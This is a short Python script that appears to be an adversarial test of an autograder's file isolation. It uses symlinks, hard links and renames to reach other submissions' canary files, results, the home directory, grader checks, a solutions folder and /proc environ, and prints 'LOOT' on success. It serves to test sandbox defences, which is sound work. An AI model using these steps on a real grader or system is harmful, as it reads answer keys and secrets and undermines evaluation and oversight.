# attack: puts symbolic and hard links to foreign files into its folder and reads those
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import shutil

for number, place in enumerate(("@OTHER@/canary.txt", "@RESULTS@/canary.txt", "@HOME@", "@KIT@/checks", "@KIT@/../solutions", "/proc/@PID@/environ")):
    for make in (os.symlink, os.link, lambda a, b: os.link(a, b, follow_symlinks=False), os.rename):
        if make is os.rename and "canary" not in place:
            continue
        name = f"link-{number}"
        try:
            make(place, name)
            found = os.listdir(name) if os.path.isdir(name) else open(name, "rb").read()
            print("LOOT:", place, len(found), found if b"canary-" in bytes(str(found), "utf-8") else "")
        except OSError as error:
            print(place, error.strerror)
        for copy in (shutil.copyfile, shutil.copytree, os.replace):
            try:
                copy(name, f"copy-{number}")
                print("LOOT: copied", place) if copy is not os.replace else None
            except (OSError, shutil.Error) as error:
                print(type(error).__name__)
print("TRIED")
